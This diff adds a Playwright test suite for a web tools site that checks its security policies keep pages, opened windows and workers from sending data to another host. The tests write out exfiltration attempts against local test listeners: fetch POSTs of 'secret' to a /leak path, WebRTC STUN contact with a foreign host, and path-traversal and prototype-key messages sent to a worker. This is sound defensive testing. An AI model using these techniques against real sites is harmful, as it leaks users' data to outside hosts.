@@ -1,0 +1,252 @@
+import { readdir } from 'node:fs/promises';
+import { expect, type Page, type Worker } from '@playwright/test';
+import { workerPolicies } from '../../src/policies.ts';
+import { byLeaving, fromPages, fromWorkers, openToOwnServer } from '../../src/proof/ways-out.ts';
+import { addFiles, finished, fixture, openTool } from '../browser/tool-page.ts';
+import { addressOf, leaveByAll, pause, test, tryAll, type Servers } from './attack.ts';
+import { withIdleThreads } from './idle-threads.ts';
+import { listen, type Listener } from './listener.ts';
+
+const waysHeard = ({ heard }: Listener) =>
+  new Set(heard.map((line) => new URLSearchParams(line.split('?')[1]).get('name') ?? line));
+
+/** Ways that leave no request behind, but a connection, a datagram, or nothing here at all. */
+const withoutRequest = [
+  // HTTP/3, which comes as datagrams.
+  'WebTransport',
+  'looking a name up',
+  'connecting ahead',
+  'WebRTC, to look for a path',
+  'WebRTC, through a relay',
+  'WebRTC, straight to a peer',
+  // Scripts of other hosts become neither.
+  'worker',
+  'shared worker',
+  'service worker',
+  // Refused before it asks: the document's own type forbids both.
+  'manifest',
+];
+
+test.describe('without a policy', () => {
+  test('every one of these ways is open: the tests below can fail', async ({ page }) => {
+    // Of its own: what arrives late is not to be heard in another test.
+    const foreign = await listen();
+    const unguarded = await listen();
+    await page.goto(unguarded.origin);
+    await tryAll(page, fromPages, foreign.origin);
+    const requests = Object.keys(fromPages).filter((name) => !withoutRequest.includes(name));
+    await expect.poll(() => requests.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
+
+    for (const name of ['WebTransport', 'WebRTC, to look for a path', 'WebRTC, straight to a peer'] as const) {
+      foreign.heard.length = 0;
+      await tryAll(page, { [name]: fromPages[name] }, foreign.origin);
+      await expect.poll(() => foreign.heard, name).toContain('datagram');
+    }
+    foreign.heard.length = 0;
+    await tryAll(page, { relay: fromPages['WebRTC, through a relay'] }, foreign.origin);
+    await expect.poll(() => foreign.heard).toContain('connection');
+
+    await leaveByAll(page.context(), unguarded.origin, byLeaving, foreign.origin);
+    const { 'a form’s fields in an address': fields, ...others } = byLeaving;
+    await expect.poll(() => Object.keys(others).filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
+    expect([foreign.heard.includes('GET /leak?leak=secret'), typeof fields]).toEqual([true, 'function']);
+
+    // What has been tried in the first page goes on in it.
+    const another = await page.context().newPage();
+    await another.goto(unguarded.origin);
+    const starting = another.waitForEvent('worker');
+    await another.evaluate(() => void new Worker(URL.createObjectURL(new Blob(['']))));
+    foreign.heard.length = 0;
+    await tryAll(await starting, fromWorkers, foreign.origin);
+    const workerRequests = Object.keys(fromWorkers).filter((name) => !withoutRequest.includes(name));
+    await expect.poll(() => workerRequests.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
+    await Promise.all([unguarded.close(), foreign.close()]);
+  });
+});
+
+/** A page of each kind: what takes files, what may use the microphone, what takes none, what sends, and what is missing. */
+const kinds = ['/', '/compress-image', '/record-audio', '/privacy', '/contact', '/no/such/page'];
+
+/** Every page of the built site in place of one of each kind: `EVERY_PAGE=1`, which takes half an hour. */
+const built = async () => {
+  const files = await readdir('dist', { recursive: true });
+  return files.filter((file) => file.endsWith('.html')).map((file) => `/${file.replace(/(?:index)?\.html$/, '')}`);
+};
+const pages = process.env['EVERY_PAGE'] ? await built() : kinds;
+
+for (const path of pages) {
+  test(`nothing gets from ${path} to another host`, async ({ page, foreign }) => {
+    await page.goto(path);
+    await tryAll(page, fromPages, foreign.origin);
+    expect(foreign.heard).toEqual([]);
+    await leaveByAll(page.context(), path, byLeaving, foreign.origin);
+    expect(foreign.heard).toEqual([]);
+  });
+}
+
+/** One is there to send: to the site, and nowhere else. */
+const silent = pages.filter((path) => path !== '/contact');
+
+for (const path of silent) {
+  test(`nothing but plain requests for what the site has gets from ${path} to the site`, async ({ page, own }) => {
+    await page.goto(path);
+    await tryAll(page, fromPages, own.origin, '/contact');
+    await leaveByAll(page.context(), path, byLeaving, own.origin, '/contact');
+    const lineOf = (name: string) => `GET /contact?${new URLSearchParams({ name })}`;
+    const open = openToOwnServer.map(lineOf);
+    expect(own.carried().filter((line) => !open.includes(line))).toEqual([]);
+    // No policy is asked about what is downloaded from the page's own host. The privacy page says so. On a page that
+    // stays: one that is closed at once may not have asked yet.
+    for (const name of openToOwnServer) {
+      await page.evaluate(byLeaving[name] as (address: string) => undefined, addressOf(name, own.origin, '/contact'));
+      await expect.poll(() => own.carried()).toContain(lineOf(name));
+    }
+  });
+}
+
+/** Documents of the site that a tool's page could open, to use what they may do: each in a window of its own. */
+const openable = [
+  '/',
+  '/contact',
+  '/robots.txt',
+  '/favicon.svg',
+  '/rss.xml',
+  '/openapi.json',
+  '/api/health',
+  '/no/such/page',
+];
+
+for (const path of openable) {
+  test(`a page with tools finds no way out in a window with ${path}`, async ({ page, context, foreign, own }) => {
+    await page.goto('/compress-image');
+    own.asked.length = 0;
+    const opening = context.waitForEvent('page').catch(() => undefined);
+    const attacking = page.evaluate(
+      async ({ path, foreign, own }) => {
+        const opened = window.open(path);
+        // As soon as it has come, and as long as it is still the empty one that it began as.
+        for (let turn = 0; turn < 10; turn++) {
+          await new Promise((resolve) => setTimeout(resolve, 100));
+          try {
+            const send = { method: 'POST', body: 'secret', mode: 'no-cors' } as const;
+            void opened?.fetch(`${foreign}/leak?opened`, send).catch(() => undefined);
+            void opened?.fetch(`${own}/api/contact`, send).catch(() => undefined);
+            const Peer = (opened as (Window & typeof globalThis) | null)?.RTCPeerConnection;
+            const peer = Peer && new Peer({ iceServers: [{ urls: `stun:${new URL(foreign).host}` }] });
+            peer?.createDataChannel('leak');
+            void peer?.createOffer().then((offer) => peer.setLocalDescription(offer));
+            if (opened) opened.location.href = `${foreign}/leak?led-on`;
+          } catch {
+            // It is out of reach.
+          }
+        }
+      },
+      { path, foreign: foreign.origin, own: own.origin },
+    );
+    // Chromium ends a page that keeps trying WebRTC where it may not.
+    await attacking.catch((error: unknown) => expect(String(error)).toContain('crashed'));
+    await (await opening)?.close();
+    expect(foreign.heard).toEqual([]);
+    expect(own.carried()).toEqual([]);
+  });
+}
+
+const giveTo = (slug: string, file: string) => async (page: Page) => {
+  await openTool(page, slug);
+  await addFiles(page, [fixture(file)]);
+};
+const giveToImages = giveTo('compress-image', 'photos/coffee.jpg');
+
+/** By the folder of a worker's script: how it comes to be started. */
+const workers = {
+  'image.worker': giveToImages,
+  'media.worker': giveTo('convert-audio', 'media/tone.wav'),
+  'pdf.worker': giveTo('merge-pdf', 'pdf/plain.pdf'),
+  'asset.worker': giveToImages,
+  'vips-es6': giveToImages,
+  'proof.worker': async (page: Page) => {
+    await page.goto('/proof');
+    await page.locator('.sample').click();
+    await page.locator('.run').click();
+    await expect(page.locator('leak-trial')).toHaveAttribute('data-verdict', /./);
+  },
+};
+type Kind = keyof typeof workers;
+
+test('every kind of worker is attacked', () => {
+  expect(Object.keys(workers).toSorted()).toEqual(Object.keys(workerPolicies).toSorted());
+});
+
+/** Lets a page start a worker, and waits until it has time for an attack. */
+async function startOf(kind: Kind, page: Page): Promise<Worker> {
+  const starting = page.waitForEvent('worker', (worker) => worker.url().includes(`/${kind}/`));
+  await workers[kind](page);
+  const worker = await starting;
+  if (kind === 'image.worker') await finished(page);
+  return worker;
+}
+
+async function attackFromWithin(kind: Kind, { page, foreign, own }: Servers & { page: Page }) {
+  const worker = await startOf(kind, page);
+  const whereItRuns = () => worker.evaluate(() => self.location.pathname);
+  expect(await whereItRuns()).toContain(kind);
+  await tryAll(worker, fromWorkers, foreign.origin);
+  // It has not been ended meanwhile, which would have ended the attack.
+  expect(await whereItRuns()).toContain(kind);
+  expect(foreign.heard).toEqual([]);
+  own.asked.length = 0;
+  const script = new URL(worker.url()).pathname;
+  const otherwise = script.replace('_', '%5F');
+  for (const target of ['/robots.txt', script, otherwise]) await tryAll(worker, fromWorkers, own.origin, target);
+  expect(await whereItRuns()).toContain(kind);
+  // One fetches for the others, and is sent names alone: it could post to this site, and has nothing to post.
+  const posted = own.carried().filter((line) => kind !== 'asset.worker' || !line.startsWith('POST /_astro/'));
+  expect(posted).toEqual([]);
+}
+
+for (const kind of Object.keys(workers) as Kind[]) {
+  const attack = kind === 'vips-es6' ? withIdleThreads : test;
+  attack(`nothing gets from within ${kind} to any host`, ({ page, foreign, own }) =>
+    attackFromWithin(kind, { page, foreign, own }),
+  );
+}
+
+withIdleThreads.describe('without policies', () => {
+  withIdleThreads.use({ policies: 'none' });
+  withIdleThreads('the threads of libvips have ways out: the test of them can fail', async ({ page, foreign }) => {
+    const thread = await startOf('vips-es6', page);
+    await tryAll(thread, fromWorkers, foreign.origin);
+    const requests = Object.keys(fromWorkers).filter((name) => !withoutRequest.includes(name));
+    await expect.poll(() => requests.filter((name) => !waysHeard(foreign).has(name))).toEqual([]);
+  });
+});
+
+test('the worker that connects asks for nothing but what its table names, whatever it is sent', async ({
+  page,
+  foreign,
+  own,
+}) => {
+  const starting = page.waitForEvent('worker', (worker) => worker.url().includes('/asset.worker/'));
+  await openTool(page, 'compress-image');
+  await addFiles(page, [fixture('photos/coffee.jpg')]);
+  await finished(page);
+  own.asked.length = 0;
+  const hostile = [
+    '/robots.txt',
+    '../robots.txt',
+    foreign.origin,
+    '__proto__',
+    'constructor',
+    { url: foreign.origin },
+    7,
+    null,
+  ];
+  await (
+    await starting
+  ).evaluate((messages) => {
+    for (const name of messages) self.dispatchEvent(new MessageEvent('message', { data: { name, asBytes: true } }));
+  }, hostile);
+  await pause(1000);
+  expect(own.asked).toEqual([]);
+  expect(foreign.heard).toEqual([]);
+});
